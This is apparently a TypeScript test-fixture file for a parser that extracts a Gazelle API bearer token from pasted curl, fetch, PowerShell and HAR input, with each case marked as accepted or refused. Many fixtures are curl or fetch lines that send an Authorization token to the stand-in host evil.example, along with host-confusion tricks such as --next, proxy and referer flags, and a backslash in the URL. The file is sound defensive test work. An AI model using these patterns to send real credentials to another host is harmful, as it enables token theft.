import { type Case, refused, taken, values } from './case.ts'
import { har, harEntry } from './writers.ts'

const graphqlText = 'https://gazelleapp.io/graphql/private/'
const otherHost = (form: 'curl-bash' | 'curl-cmd' | 'fetch' | 'powershell' | 'har') =>
  ({ reason: 'other-host', form, host: 'evil.example' }) as const

/** Commands as a person writes or gathers them, beyond what a browser copies of one request. */
export const curl: readonly Case[] = [
  taken('no quotes', 'curl-bash', String.raw`curl -s -H Authorization:\ Bearer\ {{TOKEN}} ${graphqlText}`),
  taken('double quotes', 'curl-bash', `curl "${graphqlText}" -H "Authorization: Bearer {{TOKEN}}"`),
  taken('a prompt', 'curl-bash', `$ curl ${graphqlText} -H 'Authorization: Bearer {{TOKEN}}'`),
  taken('curl.exe', 'curl-bash', `curl.exe "${graphqlText}" -H "Authorization: Bearer {{TOKEN}}"`),
  taken('a path to curl', 'curl-bash', `/usr/bin/curl '${graphqlText}' -H 'Authorization: Bearer {{TOKEN}}'`),
  taken('the header right behind its option', 'curl-bash', `curl -sSH'Authorization: Bearer {{TOKEN}}' ${graphqlText}`),
  taken('--url', 'curl-bash', `curl --request POST --url ${graphqlText} --header 'authorization: Bearer {{TOKEN}}'`),
  taken('--oauth2-bearer', 'curl-bash', `curl --oauth2-bearer {{TOKEN}} ${graphqlText}`),
  taken(
    'the port of https',
    'curl-bash',
    `curl https://GazelleApp.io:443/graphql/private/ -H 'Authorization: Bearer {{TOKEN}}'`,
  ),
  taken('quotes joined', 'curl-bash', `curl '${graphqlText}' -H 'Authorization: '"Bearer "$'{{TOKEN}}' -d 'it'"'"'s'`),
  taken('a pipe after it', 'curl-bash', `curl '${graphqlText}' -H 'Authorization: Bearer {{TOKEN}}' | jq .`),
  taken(
    'a comment before it',
    'curl-bash',
    `curl '${graphqlText}' -H 'Authorization: Bearer {{TOKEN}}' # https://evil.example`,
  ),
  taken(
    'all requests of a page, the endpoint’s counts',
    'curl-bash',
    `curl 'https://evil.example/a.js' -H 'authorization: Bearer {{REFRESH}}' ;
curl 'https://gazelleapp.io/other' -H 'authorization: Bearer {{NEWER_TOKEN}}' ;
curl '${graphqlText}' -H 'authorization: Bearer {{TOKEN}}'`,
  ),
  taken(
    'all requests of a page (cmd)',
    'curl-cmd',
    `curl ^"https://evil.example/a.js^" ^\r\n  -H ^"authorization: Bearer {{REFRESH}}^" &\r\ncurl ^"${graphqlText}^" ^\r\n  -H ^"authorization: Bearer {{TOKEN}}^"`,
  ),
  taken(
    '--next',
    'curl-bash',
    `curl https://evil.example -H 'a: b' --next ${graphqlText} -H 'Authorization: Bearer {{TOKEN}}'`,
  ),
  taken('an API key (cmd), one line', 'curl-cmd', `curl ^"${graphqlText}^" -H ^"x-gazelle-api-key: {{KEY}}^"`, {
    accessToken: values.KEY,
    headerKind: 'api-key',
  }),
  refused(
    'two tokens',
    { reason: 'several-tokens', form: 'curl-bash' },
    `curl '${graphqlText}' -H 'Authorization: Bearer {{TOKEN}}'\ncurl '${graphqlText}' -H 'Authorization: Bearer {{NEWER_TOKEN}}'`,
  ),
  refused(
    'two addresses',
    otherHost('curl-bash'),
    `curl ${graphqlText} https://evil.example -H 'Authorization: Bearer {{TOKEN}}'`,
  ),
  refused(
    '--next, the other way round',
    otherHost('curl-bash'),
    `curl https://evil.example -H 'Authorization: Bearer {{TOKEN}}' --next https://evil.example`,
  ),
  refused(
    'Gazelle as the proxy',
    otherHost('curl-bash'),
    `curl -x ${graphqlText} https://evil.example -H 'Authorization: Bearer {{TOKEN}}'`,
  ),
  refused(
    'Gazelle as the Referer',
    otherHost('curl-bash'),
    `curl -e ${graphqlText} https://evil.example -H 'Authorization: Bearer {{TOKEN}}'`,
  ),
  refused(
    'Gazelle in a comment',
    otherHost('curl-bash'),
    `curl https://evil.example -H 'Authorization: Bearer {{TOKEN}}' # ${graphqlText}`,
  ),
  refused(
    'Gazelle’s request in the body',
    otherHost('curl-bash'),
    `curl https://evil.example -H 'Authorization: Bearer {{TOKEN}}' -d "curl '${graphqlText}' -H 'Authorization: Bearer {{TOKEN}}'"`,
  ),
  refused(
    'a token of another host, Gazelle without one',
    { reason: 'no-token-in-request', form: 'curl-bash' },
    `curl https://evil.example -H 'Authorization: Bearer {{TOKEN}}'; curl ${graphqlText}`,
  ),
  refused(
    'braces that make several hosts',
    { reason: 'unknown-host', form: 'curl-bash' },
    `curl 'https://{gazelleapp.io,evil.example}/' -H 'Authorization: Bearer {{TOKEN}}'`,
  ),
  refused(
    'a backslash in the host',
    { reason: 'unknown-host', form: 'curl-bash' },
    String.raw`curl 'https://gazelleapp.io\@evil.example/' -H 'Authorization: Bearer {{TOKEN}}'`,
  ),
  refused(
    'without a scheme',
    { reason: 'other-host', form: 'curl-bash', host: 'http://gazelleapp.io' },
    `curl gazelleapp.io/graphql/private/ -H 'Authorization: Bearer {{TOKEN}}'`,
  ),
  refused(
    'a host by a variable',
    { reason: 'unknown-host', form: 'curl-bash' },
    `curl "$HOST/graphql/private/" -H 'Authorization: Bearer {{TOKEN}}'`,
  ),
  refused('no address', { reason: 'unknown-host', form: 'curl-bash' }, `curl -H 'Authorization: Bearer {{TOKEN}}'`),
  refused('a token for an address', { reason: 'unknown-host', form: 'curl-bash' }, 'curl {{TOKEN}}'),
  refused(
    'a token by a variable',
    { reason: 'placeholder', form: 'curl-bash' },
    `curl ${graphqlText} -H "Authorization: Bearer $TOKEN"`,
  ),
  refused(
    'a token by a variable (cmd)',
    { reason: 'placeholder', form: 'curl-cmd' },
    `curl ^"${graphqlText}^" -H ^"Authorization: Bearer %TOKEN%^"`,
  ),
  refused(
    'a header for the proxy',
    { reason: 'no-token-in-request', form: 'curl-bash' },
    `curl ${graphqlText} --proxy-header 'Authorization: Bearer {{TOKEN}}'`,
  ),
  refused('a password', { reason: 'no-token-in-request', form: 'curl-bash' }, `curl -u ada:lovelace ${graphqlText}`),
  refused(
    'an open quote',
    { reason: 'unreadable', form: 'curl-bash' },
    `curl '${graphqlText}' -H 'Authorization: Bearer {{TOKEN}}' --data-raw '{"query":`,
  ),
  refused(
    'an open quote (cmd)',
    { reason: 'unreadable', form: 'curl-cmd' },
    `curl ^"${graphqlText}^" ^\r\n -H ^"Authorization: Bearer {{TOKEN}}`,
  ),
  taken('typographic quotes', 'curl-bash', `curl ‘${graphqlText}’ -H ‘Authorization: Bearer {{TOKEN}}’`),
  refused('curl’s name alone', { reason: 'unknown-form' }, 'curl'),
]

export const fetchCalls: readonly Case[] = [
  taken(
    'several calls',
    'fetch',
    `fetch("https://evil.example/a", {"headers":{"authorization":"Bearer {{REFRESH}}"}}); ;\nfetch("${graphqlText}", {"headers":{"authorization":"Bearer {{TOKEN}}"}});`,
  ),
  taken(
    'parentheses in the body',
    'fetch',
    `fetch("${graphqlText}", {"body":"(((\\")\\"","headers":{"authorization":"Bearer {{TOKEN}}"}}).then(r => r.json())`,
  ),
  refused('no options', { reason: 'no-token-in-request', form: 'fetch' }, `fetch("${graphqlText}")`),
  refused(
    'a path only',
    { reason: 'unknown-host', form: 'fetch' },
    'fetch("/graphql/private/", {"headers":{"authorization":"Bearer {{TOKEN}}"}})',
  ),
  taken('code, not JSON', 'fetch', `fetch('${graphqlText}', { headers: { Authorization: 'Bearer {{TOKEN}}' } })`),
  refused(
    'cut off',
    { reason: 'unreadable', form: 'fetch' },
    `fetch("${graphqlText}", {"headers":{"authorization":"Bearer {{TOKEN}}"`,
  ),
  refused('no arguments', { reason: 'unreadable', form: 'fetch' }, 'fetch()'),
  refused(
    'two Gazelle calls that disagree',
    { reason: 'several-tokens', form: 'fetch' },
    `fetch("${graphqlText}", {"headers":{"authorization":"Bearer {{TOKEN}}"}});fetch("${graphqlText}", {"headers":{"authorization":"Bearer {{REFRESH}}"}});`,
  ),
]

export const powerShell: readonly Case[] = [
  taken(
    'Invoke-RestMethod, single quotes',
    'powershell',
    `Invoke-RestMethod -Uri '${graphqlText}' -Headers @{ 'Authorization' = 'Bearer {{TOKEN}}'; Accept = '*/*' }`,
  ),
  refused(
    'a variable for the token',
    { reason: 'placeholder', form: 'powershell' },
    `Invoke-WebRequest -Uri "${graphqlText}" -Headers @{"Authorization"="Bearer $token"}`,
  ),
  refused(
    'headers by a variable',
    { reason: 'no-token-in-request', form: 'powershell' },
    `Invoke-WebRequest -Uri "${graphqlText}" -Headers $headers`,
  ),
  refused(
    'an open quote',
    { reason: 'unreadable', form: 'powershell' },
    `Invoke-WebRequest -Uri "${graphqlText}" -Headers @{"Authorization"="Bearer {{TOKEN}}`,
  ),
]

const entry = (url: string, authorization: string, at: string) =>
  harEntry({ url, headers: [['Authorization', authorization]], body: '{}' }, at)
const { TOKEN, NEWER_TOKEN, REFRESH } = values

export const archives: readonly Case[] = [
  taken(
    'the newest counts, not the last',
    'har',
    har(
      entry(graphqlText, `Bearer ${NEWER_TOKEN}`, '2025-06-15T12:00:00.000Z'),
      entry(graphqlText, `Bearer ${TOKEN}`, '2025-06-15T10:00:00.000-04:00'),
      entry(graphqlText, `Bearer ${NEWER_TOKEN}`, '2025-06-15T13:59:59.999Z'),
    ),
  ),
  taken(
    'other hosts beside it',
    'har',
    har(
      entry('https://evil.example/graphql/private/', `Bearer ${REFRESH}`, '2025-06-15T18:00:00.000Z'),
      entry(graphqlText, `Bearer ${TOKEN}`, '2025-06-15T12:00:00.000Z'),
      entry('https://gazelleapp.io/other', `Bearer ${NEWER_TOKEN}`, '2025-06-15T19:00:00.000Z'),
    ),
  ),
  taken(
    'requests before the sign-in',
    'har',
    har(
      entry(graphqlText, `Bearer ${TOKEN}`, '2025-06-15T12:00:00.000Z'),
      entry(graphqlText, 'Bearer null', '2025-06-15T13:00:00.000Z'),
    ),
  ),
  taken(
    'entries that are none',
    'har',
    har(
      {},
      { request: null },
      { request: { url: 7 } },
      {
        startedDateTime: 1,
        request: {
          url: graphqlText,
          headers: [null, 1, { name: 'a' }, { name: 'Authorization', value: `Bearer ${TOKEN}` }],
        },
      },
    ),
  ),
  refused(
    'a time shared by two tokens',
    { reason: 'several-tokens', form: 'har' },
    har(
      entry(graphqlText, `Bearer ${TOKEN}`, '2025-06-15T12:00:00.000Z'),
      entry(graphqlText, `Bearer ${NEWER_TOKEN}`, '2025-06-15T12:00:00.000Z'),
    ),
  ),
  refused(
    'sanitised',
    { reason: 'token-left-out', form: 'har' },
    har(harEntry({ url: graphqlText, headers: [['accept', '*/*']], body: '{}' }, '')),
  ),
  refused('no entries', { reason: 'no-token-in-request', form: 'har' }, har()),
  refused('only other hosts', otherHost('har'), har(entry('https://evil.example/', `Bearer ${TOKEN}`, ''))),
  refused(
    'a token in the answer only',
    { reason: 'token-left-out', form: 'har' },
    har({
      request: { url: graphqlText, headers: [] },
      response: { headers: [{ name: 'Authorization', value: `Bearer ${TOKEN}` }] },
    }),
  ),
  refused(
    'cut off',
    { reason: 'unreadable', form: 'row' },
    har(entry(graphqlText, `Bearer ${TOKEN}`, '')).slice(0, -3),
  ),
]
